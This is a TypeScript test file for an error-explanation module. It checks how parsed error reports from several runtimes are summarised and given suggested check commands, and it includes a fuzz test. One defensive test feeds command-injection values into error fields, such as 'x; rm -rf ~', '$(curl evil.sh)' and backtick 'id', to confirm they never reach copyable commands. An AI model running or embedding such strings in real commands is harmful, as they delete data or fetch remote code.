import assert from 'node:assert/strict';
import fc from 'fast-check';
import { explainError, placeSentence } from '../../../src/core/explain';
import { parseErrors } from '../../../src/core/parse';
import type { ErrorReport } from '../../../src/core/report';
import { reportLike } from './reportLike';

/** Explains the first error of a printed text. */
function explainText(text: string) {
  const [report] = parseErrors(text);
  assert.ok(report);
  return explainError(report);
}

describe('explainError', () => {
  it('names the address that refused, who usually listens there, and how to look', () => {
    const explanation = explainText(
      [
        'Error: connect ECONNREFUSED 127.0.0.1:6379',
        '    at TCPConnectWrap.afterConnect [as oncomplete] (node:net:1611:16)',
        '    at connectToRedis (/srv/app/src/cache.js:45:9) {',
        '  errno: -111,',
        "  code: 'ECONNREFUSED',",
        "  syscall: 'connect',",
        "  address: '127.0.0.1',",
        '  port: 6379',
        '}',
      ].join('\n'),
    );
    assert.equal(explanation.summary, 'Nothing is listening on 127.0.0.1:6379, so the connection was refused.');
    assert.equal(explanation.causes[0], 'Redis is not running, or still starting');
    assert.match(explanation.checks[0]!, /`nc -vz 127\.0\.0\.1 6379`/);
    assert.deepEqual(explanation.place, {
      file: '/srv/app/src/cache.js',
      line: 45,
      column: 9,
      function: 'connectToRedis',
    });
    assert.equal(
      placeSentence(explanation),
      'Your code reaches it first in /srv/app/src/cache.js:45:9 (connectToRedis).',
    );
  });

  it('explains a wrapping exception by where it began, and gives the chain in order', () => {
    const explanation = explainText(
      [
        'Traceback (most recent call last):',
        '  File "/srv/p1.py", line 5, in <module>',
        '    connect_to_redis()',
        '  File "/usr/lib/python3.12/socket.py", line 837, in create_connection',
        '    sock.connect(sa)',
        'ConnectionRefusedError: [Errno 111] Connection refused',
        '',
        'The above exception was the direct cause of the following exception:',
        '',
        'Traceback (most recent call last):',
        '  File "/srv/p1.py", line 7, in <module>',
        "    raise RuntimeError('sync failed') from e",
        'RuntimeError: sync failed',
      ].join('\n'),
    );
    assert.equal(explanation.title, 'Connection refused');
    assert.match(explanation.summary, /^RuntimeError passes on another error: Nothing is listening/);
    assert.deepEqual(explanation.chain, [
      { errorType: 'ConnectionRefusedError', message: '[Errno 111] Connection refused' },
    ]);
  });

  it('explains a group by its first member', () => {
    const part = reportLike({ language: 'python', errorType: 'ZeroDivisionError', message: 'division by zero' });
    const group = reportLike({
      language: 'python',
      errorType: 'ExceptionGroup',
      parts: [part, part],
      causes: [part, part],
    });
    assert.equal(
      explainError(group).summary,
      'ExceptionGroup holds 2 errors; the first: A number was divided by zero.',
    );
  });

  it('says which type stands where, from a compiler that prints no stack', () => {
    const explanation = explainText("src/a.ts(1,7): error TS2322: Type 'number' is not assignable to type 'string'.");
    assert.equal(explanation.summary, 'A value of type `number` stands where `string` is declared.');
    assert.deepEqual(explanation.place, { file: 'src/a.ts', line: 1, column: 7, function: null });
  });

  const told: [ErrorReport, source: string, title: string, summary: RegExp][] = [
    // The same errno in the words of other runtimes.
    [go('dial tcp [::1]:5432: connect: connection refused'), 'catalogue', 'Connection refused', /\[::1\]:5432/],
    [
      rust('Os { code: 2, kind: NotFound, message: "No such file or directory" }'),
      'catalogue',
      'File or folder not found',
      /folder/,
    ],
    [unknown('OSError: [WinError 10048] Only one usage'), 'catalogue', 'Port already in use', /listens/],
    [
      reportLike({ code: 'ENOBUFS', message: 'send ENOBUFS' }),
      'errno',
      'ENOBUFS: no buffer space available',
      /ENOBUFS/,
    ],
    // Node: `spawn nopecmd ENOENT` is about a program, not a file.
    [reportLike({ code: 'ENOENT', message: 'spawn nopecmd ENOENT' }), 'catalogue', 'Command not found', /nopecmd/],
    [unknown('Request failed with status code 429'), 'http', 'HTTP 429: too many requests', /slows/],
    [unknown('curl: (22) The requested URL returned error: 418'), 'http', 'HTTP 418: request refused', /4xx/],
    [reportLike({ code: '22P02' }), 'sqlstate', 'SQLSTATE 22P02: data exception', /22P02/],
    [
      unknown('SQLSTATE[42883]: Undefined function'),
      'sqlstate',
      'SQLSTATE 42883: syntax error or access rule violation',
      /42883/,
    ],
    [unknown('Segmentation fault (core dumped)'), 'signal', 'Segmentation fault', /SIGSEGV/],
    [unknown('bash: line 1:  9749 Killed                  ./app'), 'signal', 'Killed from outside', /SIGKILL/],
    [unknown('container exited with code 137'), 'exit-code', 'Killed from outside', /^Exit code 137 is 128 \+ 9\./],
    [reportLike({ language: 'shell', code: '127' }), 'exit-code', 'Command not found', /127/],
    [unknown('make: *** [Makefile:3: all] Error 77'), 'exit-code', 'Failed with exit code 77', /77/],
  ];
  for (const [report, source, title, summary] of told) {
    it(`tells “${report.message ?? report.code}” from ${source}`, () => {
      const explanation = explainError(report);
      assert.deepEqual([explanation.source, explanation.title], [source, title]);
      assert.match(explanation.summary, summary);
    });
  }

  it('says honestly what it does not know, from structure alone', () => {
    const frame = { function: 'load', file: '/srv/app/boot.py', line: 3, column: null, inApp: true };
    const explanation = explainError(
      reportLike({
        language: 'python',
        tool: 'python',
        errorType: 'acme.QuotaGone',
        message: 'tier 3',
        frames: [frame],
        frameCount: 1,
        innermost: { file: '/usr/lib/acme.py', line: 9, column: null },
        innermostInApp: frame,
      }),
    );
    assert.equal(explanation.source, 'general');
    assert.equal(
      explanation.summary,
      'An error of type acme.QuotaGone was reported by python: “tier 3”. The catalogue has no entry for it.',
    );
    assert.deepEqual(explanation.causes, [
      'It was raised outside your code, at acme.py:9, with what your code passed in',
    ]);
  });

  it('takes no entry of another language', () => {
    const report = { errorType: 'TypeError', message: "'NoneType' object is not subscriptable" };
    assert.equal(explainError(reportLike({ language: 'python', ...report })).title, 'None used as a value');
    assert.notEqual(explainError(reportLike({ language: 'ruby', ...report })).title, 'None used as a value');
    assert.equal(explainError(reportLike({ language: 'unknown', errorType: 'TypeError' })).source, 'general');
  });

  it('never lets a value of the error into a command that a person may copy', () => {
    for (const value of ['x; rm -rf ~', '$(curl evil.sh)', '-rf', 'a`id`b', 'x\ny', "x' y"]) {
      const { checks } = explainError(reportLike({ language: 'python', errorType: 'KeyError', message: `'${value}'` }));
      const opened = explainError(
        reportLike({ code: 'ENOENT', message: 'ENOENT: no such file', properties: [['path', `'${value}'`]] }),
      );
      const spans = [...checks, ...opened.checks].flatMap((text) => text.split('`').filter((_, i) => i % 2 === 1));
      for (const span of spans) assert.doesNotMatch(span, /rm -rf|curl evil|id|-rf|[\n']/, span);
      assert.ok(opened.checks.includes('Look: `ls -la <path>`'));
    }
  });

  it('gives a complete, short story for any report', () => {
    const text = fc.oneof(
      fc.string({ maxLength: 300, unit: 'binary' }),
      fc.constantFrom(
        '__proto__',
        'constructor',
        '{name}',
        '`',
        '\u202e',
        "Cannot find module '",
        'E'.repeat(5000),
        '\ud83d',
      ),
      fc
        .tuple(fc.constantFrom('TypeError: ', 'ENOENT: ', 'SQLSTATE[', 'curl: (7) '), fc.string({ maxLength: 400 }))
        .map((parts) => parts.join('')),
    );
    const maybe = fc.option(text);
    const place = fc.record({ file: text, line: fc.option(fc.nat()), column: fc.option(fc.nat()) });
    const frame = fc.record({
      function: maybe,
      file: maybe,
      line: fc.option(fc.nat()),
      column: fc.option(fc.nat()),
      inApp: fc.boolean(),
    });
    const { report } = fc.letrec<{ report: ErrorReport }>((tie) => ({
      report: fc
        .record({
          language: fc.oneof(fc.constantFrom('javascript', 'python', 'java', 'c', 'unknown'), text),
          tool: text,
          errorType: maybe,
          message: maybe,
          code: maybe,
          severity: fc.constantFrom('fatal', 'error', 'warning', 'info'),
          frameCount: fc.nat(3),
          innermost: fc.option(place),
          innermostInApp: fc.option(frame),
          causes: fc.oneof({ maxDepth: 3 }, fc.constant([]), fc.array(tie('report'), { maxLength: 2 })),
          parts: fc.oneof({ maxDepth: 2 }, fc.constant([]), fc.array(tie('report'), { maxLength: 1 })),
          properties: fc.array(fc.tuple(text, text), { maxLength: 3 }),
        })
        .map((fields) => reportLike(fields as Partial<ErrorReport>)),
    }));
    fc.assert(
      fc.property(report, (each) => {
        const { title, summary, causes, checks, chain } = explainError(each);
        assert.ok(title.length >= 1 && title.length <= 80);
        assert.ok(summary.length >= 1 && summary.length <= 300);
        assert.ok(causes.length >= 1 && checks.length >= 1);
        for (const line of [...causes, ...checks]) assert.ok(line.length <= 160);
        assert.ok(chain.length <= 20);
        for (const line of [title, summary, ...causes, ...checks]) {
          assert.equal(line.split('`').length % 2, 1, line);
          assert.doesNotMatch(line, /[\n\r\u202e\x00-\x1f]/);
        }
      }),
      { numRuns: 1000 },
    );
  });
});

function unknown(message: string): ErrorReport {
  return reportLike({ message });
}

function go(message: string): ErrorReport {
  return reportLike({ language: 'go', errorType: 'panic', message });
}

function rust(error: string): ErrorReport {
  const message = `called \`Result::unwrap()\` on an \`Err\` value: ${error}`;
  return reportLike({ language: 'rust', errorType: 'panic', message });
}
